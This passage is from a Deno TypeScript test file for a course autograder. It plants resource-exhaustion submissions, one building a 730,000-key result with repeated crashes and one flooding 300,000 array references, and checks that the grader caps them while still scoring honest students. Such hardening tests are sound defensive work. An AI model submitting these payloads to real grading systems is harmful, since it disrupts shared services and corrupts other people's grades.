  assert.match(results.tests[0].output, /drivers read: harness\b/);
});

Deno.test("grade gives a slow classmate no time for the grader's stalls that another's results cause", async () => {
  // Red team, round 12: results of 730 000 keys, in every run the attacker's crashes started
  // again, held the grader's thread seconds a frame; every child was credited those stalls,
  // and a classmate's cost(), 12 s of work against a 10 s limit, passed: 10/10, 8/10 alone.
  await using attack = await attackClass();
  await attack.put(
    "attacker",
    EXERCISE,
    "lms.ts",
    `
      let calls = 0;
      function attack(): any {
        if (++calls === 1) {
          const o: Record<string, number> = {};
          for (let i = 0; i < 730_000; i++) o[i.toString(36)] = NaN;
          return o;
        }
        setTimeout(() => { throw new Error("crash, to be started again"); }, 0);
        return 0;
      }${SIGNATURES}`,
  );
  const solution = await Deno.readTextFile(SOLUTION);
  const renamed = solution.replace("export function cost(", "function costOwn(");
  assert.notEqual(renamed, solution);
  await attack.put(
    "slow",
    EXERCISE,
    "lms.ts",
    `${renamed}
let first = true;
export function cost(theta: number[], X: number[][], y: number[]): number {
  if (first) {
    first = false;
    const end = performance.now() + 12_000;
    while (performance.now() < end) { /* 12 s of work */ }
  }
  return costOwn(theta, X, y);
}
`,
  );
  await attack.grade(EXERCISE);
  const attacker = await attack.results("attacker", EXERCISE);
  assert.equal(attacker.score, 0);
  // Its results are refused for their size; on a machine loaded enough (a load average of
  // 5 on two cores was seen), building 730 000 keys alone outlasts the 10 s limit first.
  assert.match(
    attacker.output,
    new RegExp(`${RESULTS_CAPPED.source}|ran for more than 10 s`),
  );
  const slow = await attack.results("slow", EXERCISE);
  assert.match(slow.output, /ran for more than 10 s/);
  assert.equal(slow.score, 8, slow.output);
});

Deno.test("grade reads none of a flood of empty arrays, and grades the class beside it", async () => {
  // Red team, round 13: every function of two students returned 300 000 references to one
  // empty array; each 16 MiB frame cost the grader 2.6 s and 180 MB to read, runs started
  // again and isolated re-runs repeated it, and the grader ran out of memory: no grades at
  // all. The results' items are now counted before anything is read.
  await using attack = await attackClass();
  const flood = `
    const empty: unknown[] = [];
    function attack(): any { return new Array(300_000).fill(empty); }${SIGNATURES}`;
  for (const student of ["flood-1", "flood-2"]) {
    await attack.put(student, EXERCISE, "lms.ts", flood);
  }
  await attack.put("honest", EXERCISE, "lms.ts", await Deno.readTextFile(SOLUTION));
  await attack.grade(EXERCISE);
  for (const student of ["flood-1", "flood-2"]) {
    const results = await attack.results(student, EXERCISE);
    assert.equal(results.score, 0);
    assert.match(
      results.output,
      RESULTS_CAPPED,
    );
  }
  assert.equal((await attack.results("honest", EXERCISE)).score, 10);
});
